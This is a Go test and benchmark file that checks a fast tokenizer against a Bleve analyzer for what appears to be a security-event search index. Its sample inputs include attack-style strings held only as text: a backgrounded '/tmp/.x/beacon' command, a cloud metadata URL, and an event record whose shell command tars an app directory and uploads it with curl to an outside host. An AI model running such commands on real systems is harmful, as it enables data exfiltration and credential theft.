package evidence

import (
	"bufio"
	"math/rand"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/blevesearch/bleve/v2/analysis"
	index "github.com/blevesearch/bleve_index_api"
)

func textAnalyzerForTest(t testing.TB) analysis.Analyzer {
	t.Helper()
	im, err := newMapping()
	if err != nil {
		t.Fatal(err)
	}
	return im.AnalyzerNamed(textAnalyzer)
}

// freqString renders frequencies for comparison.
func freqString(length int, f index.TokenFrequencies) string {
	var terms []string
	for k, v := range f {
		if k != string(v.Term) {
			terms = append(terms, "KEY-MISMATCH:"+k)
		}
		terms = append(terms, k+"="+strings.Repeat("|", v.Frequency()))
	}
	sort.Strings(terms)
	return strings.Join(terms, " ") + " #" + string(rune('0'+length%10))
}

func sameAsAnalyzer(t *testing.T, a analysis.Analyzer, text string) {
	t.Helper()
	tokens := a.Analyze([]byte(text))
	want := freqString(len(tokens), analysis.TokenFrequency(tokens, nil, index.IndexField))
	if got := freqString(textFreqs(a, []byte(text))); got != want {
		t.Fatalf("text %q:\n got %s\nwant %s", text, got, want)
	}
}

func TestFastTokenizerMatchesTheAnalyzer(t *testing.T) {
	a := textAnalyzerForTest(t)
	for _, s := range []string{
		"", "a", "_", "__", "a_", "_a", "a.b", "a..b", "a.1", "1.a", "1.2", "1..2", "a:b", "1:2", "a,b", "1,2",
		"1;2", "a'b", "1'2", "a_.b", "a._b", "1_.2", "1.2_3", "a1.2", "1a.b", "a.1b", "a:b:c", "a::b", "'a'",
		"pypi.org", "10.0.3.7:443", "http://169.254.169.254/latest/meta-data/", "TCP_DENIED/403",
		"2026-07-21T10:04:11.250Z", "nohup /tmp/.x/beacon --interval 60 &", "CONNECT host3.example.com:443",
		"e.g. it's 3.14, isn't it?", "a.b.", ".a", "a\r\nb", "x'", "'1", "1.", ".1", "a.b.c.1.2.3",
	} {
		sameAsAnalyzer(t, a, s)
	}
	// Random strings over the characters that matter to word boundaries.
	for _, s := range boundaryTexts(1, 20000, 24) {
		sameAsAnalyzer(t, a, s)
	}
}

// boundaryTexts are n random strings of up to max-1 bytes over the
// characters that decide where a word begins and ends.
func boundaryTexts(seed int64, n, max int) []string {
	const alphabet = "aZz09_.':,;- /\"\n\r\t=@{}[]()#%+*!?&|<>\\`~$^"
	rnd := rand.New(rand.NewSource(seed))
	out := make([]string, n)
	for i := range out {
		b := make([]byte, rnd.Intn(max))
		for j := range b {
			b[j] = alphabet[rnd.Intn(len(alphabet))]
		}
		out[i] = string(b)
	}
	return out
}

func TestFastTokenizerOnRealRecords(t *testing.T) {
	a := textAnalyzerForTest(t)
	files, _ := filepath.Glob("../ingest/testdata/formats/*/*")
	more, _ := filepath.Glob("../ingest/testdata/ledger/*")
	n := 0
	for _, f := range append(files, more...) {
		fh, err := os.Open(f)
		if err != nil {
			continue
		}
		sc := bufio.NewScanner(fh)
		sc.Buffer(make([]byte, 1<<20), 8<<20)
		for sc.Scan() {
			sameAsAnalyzer(t, a, sc.Text())
			n++
		}
		fh.Close()
	}
	if n < 100 {
		t.Fatalf("only %d records read from testdata", n)
	}
}

func BenchmarkTokenize(b *testing.B) {
	a := textAnalyzerForTest(b)
	line := []byte(`{"process_exec":{"process":{"exec_id":"ZXZhbC1ub2RlLTc6MTc4NDYyMDgxMjAxOTUwODAwNToyMTEx","pid":2111,"uid":0,"cwd":"/work/app","binary":"/bin/sh","arguments":"-c tar czf /tmp/out.tgz /work/app && curl -T /tmp/out.tgz https://proxy.golang.org/upload","flags":"execve clone","start_time":"2026-07-21T08:00:12.019508005Z"}}`)
	b.Run("analyzer", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			analysis.TokenFrequency(a.Analyze(line), nil, index.IndexField)
		}
	})
	b.Run("fast", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			textFreqs(a, line)
		}
	})
}

// EventWords gives the words the analyzer gives an event's text, cut at
// maxToken: ASCII on the fast path, anything else through the analyzer.
func TestEventWordsAreTheAnalyzers(t *testing.T) {
	long := strings.Repeat("Ab", maxToken) // one word of 2*maxToken bytes
	texts := []string{"", "Nohup /tmp/.X/beacon --interval 60 &", "GET http://169.254.169.254/latest/ a.b.c 1,000.5",
		"Café au LAIT, naïve", long, "x " + long + " y", strings.Repeat("é", maxToken) + " Z"}
	texts = append(texts, boundaryTexts(2, 2000, 40)...)
	for _, text := range texts {
		var want, got []string
		for _, tok := range queryAnalyzer.eventStream(text) {
			want = append(want, string(tok.Term))
		}
		for w := range EventWords(text) {
			got = append(got, string(w))
		}
		if !slices.Equal(got, want) {
			t.Fatalf("text %.60q: words %q, want %q", text, got, want)
		}
	}
	// a caller that stops early
	n := 0
	for range EventWords("one two three") {
		if n++; n == 2 {
			break
		}
	}
	if n != 2 {
		t.Errorf("%d words taken, want 2", n)
	}
}
